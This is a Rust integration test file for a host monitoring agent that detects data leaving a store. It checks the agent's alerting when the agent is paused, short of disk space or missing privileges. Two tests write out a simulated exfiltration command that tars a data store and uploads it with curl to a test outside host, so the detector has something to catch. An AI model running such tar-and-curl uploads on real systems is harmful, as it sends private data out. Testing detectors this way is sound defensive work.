//! An agent that is held up, or lacks a right or room: nobody on the host is slowed, and what it sees or not is told.

use std::fs::{self, File};
use std::io::Write;
use std::os::unix::fs::symlink;

use jaga_tests::disk::Disk;
use jaga_tests::leak::Leak;
use jaga_tests::net::OUT;
use jaga_tests::process::Unit;
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};
use nix::sys::signal::Signal;

#[test]
fn a_stopped_agent_slows_nobody_and_loses_nothing() {
    let Some(world) = World::new("a_stopped_agent_slows_nobody_and_loses_nothing") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-stopped.service");
    agent.signal(Signal::SIGSTOP);
    // If a reader or a sender waited for the agent, this would never end.
    unit.run(
        &format!(
            "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
            store.display()
        ),
        60,
    );
    agent.signal(Signal::SIGCONT);
    let session = unit.session();
    let leak = Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session: &session,
        destination: OUT,
        scopes: &["external"],
    };
    leak.told(&mut agent, world.net.out.received() - before);
}

/// An alert is on disk before it is sent, and the disk has no room but what was kept.
#[test]
fn a_full_disk_holds_back_no_alert() {
    let Some(world) = World::new("a_full_disk_holds_back_no_alert") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let disk = Disk::new(world.folder(), "mkfs.ext4", 32 * MB);
    let state = world.path("agent/state");
    fs::remove_dir_all(&state).unwrap();
    symlink(&disk.mounted, &state).unwrap();
    let agent = world.agent(&[("ekg", &store)], "");
    let mut fill = File::create(disk.mounted.join("fill")).unwrap();
    while fill.write_all(&[7; 4096]).is_ok() {}
    let unit = Unit::new("jagat-full.service");
    let leak = format!(
        "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
        store.display()
    );
    unit.run(&leak, 60);
    agent.alert("store-data-leaves", "firing", &[("store", "ekg")]);
    agent.alert("store-data-leaves", "resolved", &[("store", "ekg")]);
    drop(fill);
    fs::remove_file(disk.mounted.join("fill")).unwrap();
    // Room again: it is kept for the next time.
    until("the reserve to be back", 20, || {
        let reserve = fs::metadata(disk.mounted.join("jaga.reserve")).ok()?;
        (reserve.len() == 4 << 20).then_some(())
    });
}

#[test]
fn an_agent_without_rights_says_that_it_is_blind() {
    let Some(world) = World::new("an_agent_without_rights_says_that_it_is_blind") else {
        return;
    };
    let store = world.store("ekg", 1, MB);
    let rights = [
        "setpriv",
        "--bounding-set=-bpf,-perfmon,-sys_admin,-net_raw,-net_admin",
        "--inh-caps=-all",
    ];
    let mut agent = world.agent_under(&rights, &[("ekg", &store)]);
    // What needs a right sees nothing, and says so.
    let blind = ["channels", "pcap", "wire"];
    for sensor in blind {
        until(&format!("{sensor} to be shown as down"), 30, || {
            (agent.metric("jaga_sensor_up", &[("sensor", sensor)])? == 0.0).then_some(())
        });
    }
    for sensor in blind {
        agent.alert("sensor-blind", "firing", &[("sensor", sensor)]);
    }
    // What can be seen without one stands on a lower rung, and says which.
    for sensor in ["files", "sockets", "processes"] {
        let rung = agent.metric("jaga_sensor_rung", &[("sensor", sensor)]);
        eprintln!("   {sensor}: rung {rung:?}");
        assert!(rung.is_some_and(|rung| rung >= 3.0), "{sensor}: {rung:?}");
    }
    agent.replay_equals_live();
}

#[test]
fn a_table_that_overflows_loses_names_and_no_bytes() {
    const FILES: u32 = 300_000;
    let Some(world) = World::new("a_table_that_overflows_loses_names_and_no_bytes") else {
        return;
    };
    let store = world.path("ekg");
    for number in 0..FILES {
        // Sparse, of one page: read like any other, and no room on the disk.
        let file = std::fs::File::create(store.join(number.to_string())).unwrap();
        file.set_len(4096).unwrap();
    }
    let mut agent = world.agent(&[("ekg", &store)], "");
    let unit = Unit::new("jagat-overflow.service");
    // Nobody empties the table, which holds 262,144 pairs of process and file.
    agent.signal(Signal::SIGSTOP);
    let script = format!(
        "find {} -type f -print0 | xargs -0 cat >/dev/null",
        store.display()
    );
    unit.run(&script, 120);
    agent.signal(Signal::SIGCONT);
    let truth = f64::from(FILES) * 4096.0;
    let labels = [("store", "ekg")];
    let read = agent.metric_reaches("jaga_store_read_bytes_total", &labels, truth);
    assert!(read < truth * 1.001, "read {truth}, told {read}");
    let lost = agent.metric_reaches(
        "jaga_sensor_lost_bytes_total",
        &[("sensor", "files")],
        f64::from(FILES - 262_144) * 4096.0,
    );
    eprintln!("   read {truth} B, told {read} B, of which nobody's {lost} B");
    agent.alert("data-lost", "firing", &[("sensor", "files")]);
    agent.replay_equals_live();
}
